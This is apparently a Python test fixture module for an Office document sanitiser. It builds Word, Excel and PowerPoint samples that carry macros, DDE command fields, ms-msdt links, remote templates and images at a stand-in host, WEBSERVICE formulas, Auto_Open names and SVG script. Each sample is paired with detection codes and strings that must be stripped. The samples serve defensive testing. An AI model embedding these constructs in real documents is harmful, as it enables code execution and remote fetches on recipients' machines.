"""Office documents: builders, and what acts in them."""

from __future__ import annotations

import io
import zipfile

import vba
from documents import instruction, ole, ooxml, word_main

W = "application/vnd.openxmlformats-officedocument.wordprocessingml."
S = "application/vnd.openxmlformats-officedocument.spreadsheetml."
P = "application/vnd.openxmlformats-officedocument.presentationml."
MICROSOFT = "http://schemas.microsoft.com/office/2006/relationships/"
VBA = ole(vba.project(), mini=True)
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
TEXT = "<w:p><w:r><w:t>text that stays</w:t></w:r></w:p>"


def word(body: str, space: str = "", kind: str = "docx", **more: object) -> bytes:
    main = (
        f'<?xml version="1.0" encoding="UTF-8"?>\n<w:document xmlns:w="{WORD}" xmlns:r="{REL}"{space}><w:body>{TEXT}{body}'
        "</w:body></w:document>"
    ).encode()
    return ooxml(kind, main=main, **more)  # type: ignore[arg-type]


def workbook(
    cells: str,
    names: str = "",
    kind: str = "xlsx",
    parts: dict | None = None,
    relationships: dict | None = None,
    overrides: dict | None = None,
) -> bytes:
    main = (
        f'<workbook xmlns="{MAIN}" xmlns:r="{REL}"><sheets><sheet name="One" sheetId="1" r:id="rId1"/></sheets>'
        f"<definedNames>{names}</definedNames></workbook>"
    ).encode()
    text = '<row r="2"><c r="A2" t="inlineStr"><is><t>text that stays</t></is></c></row>'
    rows = f'<sheetData><row r="1">{cells}</row>{text}</sheetData>'
    sheet = f'<worksheet xmlns="{MAIN}" xmlns:r="{REL}">{rows}</worksheet>'.encode()
    return ooxml(
        kind,
        {"xl/worksheets/sheet1.xml": sheet, **(parts or {})},
        {
            "xl/workbook.xml": [("worksheet", "worksheets/sheet1.xml", False), *(relationships or {}).pop("more", [])],
            **(relationships or {}),
        },
        {"xl/worksheets/sheet1.xml": S + "worksheet+xml", **(overrides or {})},
        main=main,
    )


def slide(inside: str = "", relationships: list | None = None, click: str = "", after: str = "") -> bytes:
    """A presentation of one slide; `click`: what stands in its box, `after`: what follows its shapes."""
    space = "http://schemas.openxmlformats.org/presentationml/2006/main"
    drawing = "http://schemas.openxmlformats.org/drawingml/2006/main"
    return ooxml(
        "pptx",
        {
            "ppt/slides/slide1.xml": (
                f'<p:sld xmlns:p="{space}" xmlns:a="{drawing}" xmlns:r="{REL}"><p:cSld><p:spTree><p:nvGrpSpPr>'
                '<p:cNvPr id="1" name=""/><p:cNvGrpSpPr/><p:nvPr/></p:nvGrpSpPr><p:grpSpPr/><p:sp><p:nvSpPr>'
                f'<p:cNvPr id="2" name="Box">{click}</p:cNvPr><p:cNvSpPr/><p:nvPr/></p:nvSpPr><p:spPr><a:xfrm>'
                '<a:off x="0" y="0"/><a:ext cx="4000000" cy="900000"/></a:xfrm><a:prstGeom prst="rect"/></p:spPr><p:txBody>'
                "<a:bodyPr/><a:p><a:r><a:t>text that stays</a:t></a:r></a:p></p:txBody></p:sp>"
                f"{inside}</p:spTree></p:cSld>{after}</p:sld>"
            ).encode()
        },
        {"ppt/presentation.xml": [("slide", "slides/slide1.xml", False)], "ppt/slides/slide1.xml": relationships or []},
        {"ppt/slides/slide1.xml": P + "slide+xml"},
        main=(
            f'<p:presentation xmlns:p="{space}" xmlns:r="{REL}"><p:sldIdLst><p:sldId id="256" r:id="rId1"/></p:sldIdLst>'
            '<p:sldSz cx="9144000" cy="6858000"/></p:presentation>'
        ).encode(),
    )


def field(*runs: str, around: str = "{}") -> str:
    return instruction(*runs[:1]).replace(
        "</w:instrText></w:r>",
        "</w:instrText></w:r>"
        + "".join(around.format(f"<w:r><w:instrText>{run}</w:instrText></w:r>") for run in runs[1:]),
        1,
    )


def parts(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as file:
        assert file.testzip() is None
        return {name: file.read(name) for name in file.namelist()}


def settings_part(body: str) -> bytes:
    return f'<w:settings xmlns:w="{WORD}" xmlns:r="{REL}">{body}</w:settings>'.encode()


OBJECT = {"word/embeddings/oleObject1.bin": ole({"\x01Ole10Native": b"evil.exe"})}
ADDRESS = "https://evil.example/x"
THREATS: dict[str, tuple[bytes, set[str], bytes]] = {
    # what: (content, codes, what must not be left in any part)
    "macros": (word("", kind="docm", parts={"word/vbaProject.bin": VBA}, relationships={"word/document.xml": [(MICROSOFT + "vbaProject", "vbaProject.bin", False)]}), {"macro"}, b"vbaProject"),
    "macros called a picture": (word("", parts={"word/media/image1.png": VBA}, relationships={"word/document.xml": [(MICROSOFT + "vbaProject", "media/image1.png", False)]}, overrides={"word/media/image1.png": "image/png"}), {"macro"}, b"_VBA_PROJECT"),
    "DDE over runs": (word(field("DD", "EAU", "TO c:\\\\cmd.exe")), {"dde"}, b"EAU"),
    "DDE in a comment of XML": (word(field("DD<!-- x -->EAUTO cmd")), {"dde"}, b"EAUTO"),
    "DDE in alternative content": (word(field("PAGE ", around="{}") .replace("PAGE ", "").replace("</w:instrText>", "</w:instrText><mc:AlternateContent><mc:Fallback><w:instrText>PAGE </w:instrText></mc:Fallback></mc:AlternateContent><w:instrText>DDE cmd</w:instrText>", 1), ' xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"'), {"ambiguous-markup", "dde"}, b"DDE"),
    "DDE by a simple field": (word('<w:fldSimple w:instr="D&#68;E cmd"><w:r><w:t>result</w:t></w:r></w:fldSimple>'), {"dde"}, b"fldSimple"),
    "DDE by QUOTE": (word(instruction("QUOTE 68 68 69 65 85 84 79 32 99")), {"dde"}, b"QUOTE"),
    "DDE in a deletion": (word(instruction("x").replace("instrText", "delInstrText").replace(">x<", ">DDEAUTO x<")), {"dde"}, b"DDEAUTO"),
    "DDE in UTF-16": (ooxml("docx", main=word_main(instruction("DDE", "AUTO calc") + TEXT).decode().replace("UTF-8", "UTF-16").encode("utf-16")), {"dde"}, b"DDE"),
    "picture from elsewhere": (word(instruction("INCLUDEPICTURE https://evil.example/x")), {"remote-image"}, b"evil"),
    "macro button": (word(instruction("MACROBUTTON Run x")), {"macro"}, b"MACROBUTTON"),
    "field link behind a switch": (word(instruction('HYPERLINK \\o "tip" "ms-msdt:/id x"')), {"hyperlink"}, b"msdt"),
    "field link behind a switch without value": (word(instruction("HYPERLINK \\h file://evil/x")), {"hyperlink"}, b"evil"),
    "second target of a field link": (word(instruction('HYPERLINK "https://example.com/" "file://evil/x"')), {"hyperlink"}, b"evil"),
    "DDE in text of the code": (word(field("PAGE").replace("<w:r><w:instrText", "<w:r><w:t>DDEAUTO evil </w:t></w:r><w:r><w:instrText", 1)), {"ambiguous-markup"}, b"PAGE"),
    "field link to ms-msdt": (word(instruction('HYPERLINK "ms-msdt:/id x"')), {"hyperlink"}, b"msdt"),
    "template": (word("", parts={"word/settings.xml": settings_part('<w:attachedTemplate r:id="rId1"/>')}, relationships={"word/document.xml": [("settings", "settings.xml", False)], "word/settings.xml": [("attachedTemplate", ADDRESS, True)]}, overrides={"word/settings.xml": W + "settings+xml"}), {"remote-template"}, b"attachedTemplate"),
    "frame": (word("", parts={"word/webSettings.xml": settings_part('<w:frameset><w:frame><w:sourceFileName r:id="rId1"/></w:frame></w:frameset>')}, relationships={"word/document.xml": [("webSettings", "webSettings.xml", False)], "word/webSettings.xml": [("frame", ADDRESS, True)]}, overrides={"word/webSettings.xml": W + "webSettings+xml"}), {"external-relationship", "remote-template"}, b"evil"),
    "link to ms-msdt": (word('<w:hyperlink r:id="rId1"><w:r><w:t>x</w:t></w:r></w:hyperlink>', relationships={"word/document.xml": [("hyperlink", "ms-msdt:/id", True)]}), {"hyperlink"}, b"msdt"),
    "link to a share": (word('<w:hyperlink r:id="rId1"><w:r><w:t>x</w:t></w:r></w:hyperlink>', relationships={"word/document.xml": [("hyperlink", "file://evil/x", True)]}), {"hyperlink"}, b"file:"),
    "embedded object": (word('<w:object><o:OLEObject r:id="rId1" Type="Embed"/></w:object>', ' xmlns:o="urn:schemas-microsoft-com:office:office"', parts=OBJECT, relationships={"word/document.xml": [("oleObject", "embeddings/oleObject1.bin", False)]}, overrides={"word/embeddings/oleObject1.bin": "application/vnd.openxmlformats-officedocument.oleObject"}), {"embedded-object"}, b"OLEObject"),
    "linked object": (word('<w:object><o:OLEObject r:id="rId1" Type="Link"/></w:object>', ' xmlns:o="urn:schemas-microsoft-com:office:office"', relationships={"word/document.xml": [("oleObject", "mhtml:https://evil.example/!x", True)]}), {"embedded-object", "remote-template"}, b"evil"),
    "package": (word("", parts={"word/embeddings/x.bin": b"MZ"}, relationships={"word/document.xml": [("package", "embeddings/x.bin", False)]}), {"embedded-object"}, b"MZ"),
    "ActiveX": (word('<w:control r:id="rId1"/>', parts={"word/activeX/activeX1.xml": b"<x/>"}, relationships={"word/document.xml": [("control", "activeX/activeX1.xml", False)]}, overrides={"word/activeX/activeX1.xml": "application/vnd.ms-office.activeX+xml"}), {"activex"}, b"w:control"),
    "custom menus": (ooxml("docx", {"customUI/customUI.xml": b"<customUI onLoad='x'/>"}, {"": [("officeDocument", "word/document.xml", False), (MICROSOFT + "ui/extensibility", "customUI/customUI.xml", False)]}, main=word_main(TEXT)), {"custom-ui"}, b"customUI"),
    "VML with link": (word('<v:shape src="https://evil.example/x"><v:imagedata o:href="file://evil/x"/></v:shape>', ' xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"'), {"hyperlink", "remote-image"}, b"evil"),
    "embedded font": (word("", parts={"word/fontTable.xml": settings_part('<w:font><w:embedRegular r:id="rId1"/></w:font>'), "word/fonts/font1.odttf": b"x" * 50}, relationships={"word/document.xml": [("fontTable", "fontTable.xml", False)], "word/fontTable.xml": [("font", "fonts/font1.odttf", False)]}, overrides={"word/fontTable.xml": W + "fontTable+xml", "word/fonts/font1.odttf": "application/vnd.openxmlformats-officedocument.obfuscatedFont"}), {"embedded-font"}, b"embedRegular"),
    "other document": (word('<w:altChunk r:id="rId1"/>', parts={"word/chunk.htm": b"<script>"}, relationships={"word/document.xml": [("aFChunk", "chunk.htm", False)]}), {"embedded-object"}, b"altChunk"),
    "mail merge": (word("", parts={"word/settings.xml": settings_part("<w:mailMerge><w:connectString w:val='Data Source=//evil/x'/></w:mailMerge>")}, relationships={"word/document.xml": [("settings", "settings.xml", False)]}, overrides={"word/settings.xml": W + "settings+xml"}), {"external-relationship"}, b"mailMerge"),
    "form macro": (word("<w:ffData><w:entryMacro w:val='Run'/></w:ffData>"), {"macro"}, b"entryMacro"),
    "video": (word("<wp15:webVideoPr embeddedHtml='&lt;iframe&gt;'/>", ' xmlns:wp15="http://schemas.microsoft.com/office/word/2012/wordprocessingDrawing"'), {"active-content"}, b"iframe"),
    "formula with DDE": (workbook("<c r='A1'><f>cmd|'/c calc'!A0</f><v>1</v></c>"), {"dde"}, b"calc"),
    "formula that loads": (workbook('<c r="A1"><f>_xlfn.WEBSERVICE("https://evil.example/"&amp;B1)</f><v>1</v></c>'), {"formula"}, b"evil"),
    "formula that calls": (workbook('<c r="A1"><f>CALL("x","y","z")</f><v>1</v></c>'), {"macro"}, b"CALL"),
    "formula in two pieces": (workbook("<c r='A1'><f>1+<x/>cmd|'/c calc'!A0</f><v>1</v></c>"), {"dde"}, b"calc"),
    "function by name": (workbook('<c r="A1"><f>_xlfn.MAP(B1,_xleta.WEBSERVICE)</f><v>1</v></c>'), {"formula"}, b"WEBSERVICE"),
    "function in a name": (workbook("", "<definedName name='a'>_xlfn.LET(_xlpm.f,_xleta.HYPERLINK,_xlpm.f(One!$A$1))</definedName>"), {"formula"}, b"HYPERLINK"),
    "publishing": (workbook('<c r="A1"/></row></sheetData><webPublishItems><webPublishItem destinationFile="//evil/x"/></webPublishItems><sheetData><row>'), {"external-data"}, b"evil"),
    "link by formula": (workbook('<c r="A1"><f>HYPERLINK("ms-msdt:x","y")</f><v>1</v></c>'), {"hyperlink"}, b"msdt"),
    "automatic name": (workbook("", '<definedName name="_xlnm.Auto_Open">One!$A$1</definedName>'), {"xlm"}, b"Auto_Open"),
    "macro sheet": (workbook("", kind="xlsm", parts={"xl/macrosheets/sheet1.xml": b"<xm:macrosheet xmlns:xm='x'><f>EXEC(1)</f></xm:macrosheet>"}, relationships={"more": [(MICROSOFT + "xlMacrosheet", "macrosheets/sheet1.xml", False)]}, overrides={"xl/macrosheets/sheet1.xml": "application/vnd.ms-excel.macrosheet+xml"}), {"xlm", "macro"}, b"EXEC"),
    "DDE link": (workbook("", parts={"xl/externalLinks/externalLink1.xml": f'<externalLink xmlns="{MAIN}"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'.encode()}, relationships={"more": [("externalLink", "externalLinks/externalLink1.xml", False)]}, overrides={"xl/externalLinks/externalLink1.xml": S + "externalLink+xml"}), {"dde"}, b"calc"),
    "book elsewhere": (workbook("", parts={"xl/externalLinks/externalLink1.xml": f'<externalLink xmlns="{MAIN}" xmlns:r="{REL}"><externalBook r:id="rId1"/></externalLink>'.encode()}, relationships={"more": [("externalLink", "externalLinks/externalLink1.xml", False)], "xl/externalLinks/externalLink1.xml": [("externalLinkPath", "file:///\\\\evil\\x.xlsx", True)]}, overrides={"xl/externalLinks/externalLink1.xml": S + "externalLink+xml"}), {"external-data"}, b"evil"),
    "query": (workbook("", parts={"xl/connections.xml": b"<connections><connection refreshOnLoad='1'/></connections>"}, relationships={"more": [("connections", "connections.xml", False)]}, overrides={"xl/connections.xml": S + "connections+xml"}), {"external-relationship"}, b"connections"),
    "program on click": (slide(click='<a:hlinkClick r:id="" action="ppaction://program"/>'), {"launch"}, b"program"),
    "macro on click": (slide(click='<a:hlinkClick r:id="" action="PPaction://Macro?name=x"/>'), {"macro"}, b"Macro"),
    "object by animation": (slide(after='<p:timing><p:cmd type="verb" cmd="0"/></p:timing>'), {"action"}, b"verb"),
    "object in slide": (slide('<p:graphicFrame><p:oleObj r:id="rId1"><p:pic><a:blip/></p:pic></p:oleObj></p:graphicFrame>', [("oleObject", ADDRESS, True)]), {"embedded-object", "remote-template"}, b"oleObj"),
    "picture in slide from elsewhere": (slide('<a:blip r:link="rId1"/>', [("image", ADDRESS, True)]), {"remote-image"}, b"evil"),
    "SVG with script": (word("", parts={"word/media/a.svg": b"<svg onload='alert(1)'/>"}, relationships={"word/document.xml": [("image", "media/a.svg", False)]}, overrides={"word/media/a.svg": "image/svg+xml"}), {"svg"}, b"onload"),
}  # fmt: skip
